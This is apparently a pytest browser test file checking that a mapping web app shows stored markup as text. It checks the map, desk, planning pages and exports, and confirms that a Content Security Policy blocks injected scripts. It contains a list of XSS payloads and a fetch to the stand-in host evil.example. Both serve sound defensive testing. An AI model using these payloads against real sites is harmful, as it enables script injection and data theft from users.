"""Hostile words in every text a page can show, live and exported (attacks 31 and 32): they are read, never run."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.api.poison import poisoned
from tests.browser.conftest import _served
from tests.browser.watching import Watched

pytestmark = pytest.mark.browser
RUN = "document.documentElement.dataset.pwn=1"
HOSTILE = [
    f'<img src=x onerror="{RUN}">',
    f"</script><script>{RUN}</script>",
    f"${{{RUN}}}",
    f"`+({RUN})+`",
    f'"><svg onload="{RUN}">',
    f"javascript:{RUN}",
    f"<a href='javascript:{RUN}'>go</a>",
    "{{7*7}}",
]


@pytest.fixture(scope="module")
def hostile_server(town_database: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Address of a server over a town where everybody wrote markup."""
    original = Path(town_database.removeprefix("sqlite:///"))
    path = poisoned(original, tmp_path_factory.mktemp("markup") / "data", HOSTILE)
    with _served(f"sqlite:///{path}") as address:
        yield address


def unharmed(page: Any) -> None:
    assert page.evaluate("document.documentElement.dataset.pwn") is None
    # An element that markup in a text would have made.
    assert page.locator("img[src='x'], svg[onload], a[href^='javascript:'], [onerror]").count() == 0


def test_31_the_map_shows_markup_as_text(browser: Any, hostile_server: str) -> None:
    watched = Watched(browser, hostile_server)
    page = watched.open(f"{hostile_server}/?lang=en")
    page.locator(".spot").first.click()
    page.wait_for_timeout(1500)
    unharmed(page)
    for layer in page.locator(".leaflet-control-layers input[type=checkbox]").all():
        layer.evaluate("(box) => { if (!box.checked) box.click(); }")
    page.wait_for_timeout(1500)
    # Every popup of a marker or a sector that can be reached, and the tips of names.
    for mark in page.locator(".leaflet-marker-icon").all()[:12]:
        mark.evaluate("(node) => node.click()")
        page.wait_for_timeout(60)
    page.mouse.move(700, 450)
    page.wait_for_timeout(300)
    unharmed(page)
    assert "onerror" in page.locator("main").inner_text(), "the words can be read"
    watched.clean()


@pytest.mark.parametrize("query", ["30.2044,117.9421", "<img src=x onerror=alert(1)>", "javascript:1", "${1}"])
def test_31_the_desk_shows_markup_as_text(browser: Any, hostile_server: str, query: str) -> None:
    watched = Watched(browser, hostile_server)
    page = watched.open(f"{hostile_server}/desk?lang=en")
    page.locator("#query").fill(query)
    page.wait_for_timeout(700)
    page.keyboard.press("Enter")
    page.locator("#answer .card, #answer .state").first.wait_for()
    page.locator("textarea[name=text]").fill(f"no signal <b onmouseover={RUN}>at home</b> {HOSTILE[0]}")
    page.wait_for_timeout(900)
    unharmed(page)


def test_31_the_planning_page_shows_markup_as_text(browser: Any, hostile_server: str) -> None:
    watched = Watched(browser, hostile_server)
    page = watched.open(f"{hostile_server}/planning?lang=en")
    rows = page.locator("tbody tr")
    assert rows.count() == len(HOSTILE)
    for row in rows.all():
        row.click()
        page.wait_for_timeout(150)
        unharmed(page)
    watched.clean()


@pytest.mark.parametrize(
    "path", ["/v1/view?bbox=117,29,119,31.5&format=html&lang=en", "/v1/export/site-requests?format=kml"]
)
def test_31_what_is_taken_away_shows_markup_as_text(
    browser: Any, hostile_server: str, tmp_path: Path, path: str
) -> None:
    watched = Watched(browser, hostile_server)
    text = watched.context.request.get(hostile_server + path).text()
    target = tmp_path / ("out.html" if "html" in path else "out.xml")
    target.write_text(text, "utf-8")
    offline = Watched(browser, "file://", offline=True)
    offline.page.goto(target.as_uri())
    offline.page.wait_for_timeout(800)
    unharmed(offline.page)
    assert offline.outside == []


def test_32_script_put_into_a_page_does_not_run(browser: Any, server: str) -> None:
    """What the policy is for: even where markup got in, nothing inline runs and nothing leaves the host."""
    watched = Watched(browser, server)
    page = watched.open(f"{server}/desk?lang=en")
    page.evaluate(
        """(code) => {
            const make = (tag) => document.createElement(tag);
            const put = (tag, set) => { const node = make(tag); set(node); document.body.append(node); };
            put("script", (node) => { node.textContent = code; });
            put("script", (node) => { node.src = "https://evil.example/x.js"; });
            put("img", (node) => { node.setAttribute("onerror", code); node.src = "/none"; });
            put("iframe", (node) => { node.src = "https://evil.example/"; });
        }""",
        RUN,
    )
    page.wait_for_timeout(800)
    assert page.evaluate("document.documentElement.dataset.pwn") is None
    assert any("Content Security Policy" in text for text in watched.complaints)
    answered = page.evaluate("fetch('https://evil.example/?x=1').then(() => 'sent', () => 'refused')")
    assert answered == "refused"
